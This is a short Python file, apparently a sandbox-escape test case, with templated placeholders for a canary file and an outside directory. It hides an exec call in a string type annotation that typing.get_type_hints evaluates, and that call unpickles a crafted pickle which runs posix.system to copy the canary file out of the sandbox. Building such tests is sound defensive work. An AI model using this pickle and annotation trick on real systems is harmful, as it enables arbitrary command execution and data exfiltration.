# class: pickle_like
# technique: a crafted protocol-0 pickle (GLOBAL posix system + REDUCE) unpickled by source text run from a get_type_hints annotation
# goal: exec
import typing

import numpy as np
import pandas as pd

blob = b"cposix\nsystem\n(S'cat {{CANARY_FILE}} > {{OUTSIDE_DIR}}/anyplot-escape-pickle'\ntR."
scope = {"blob": blob}
source = "import pickle\nrc = pickle.loads(blob)"


def cell(x: "[exec(source, scope), int][-1]"):
    return x


typing.get_type_hints(cell)
if scope.get("rc") != 0:
    raise RuntimeError("the command failed")
df = pd.DataFrame({"rc": [scope["rc"]]})
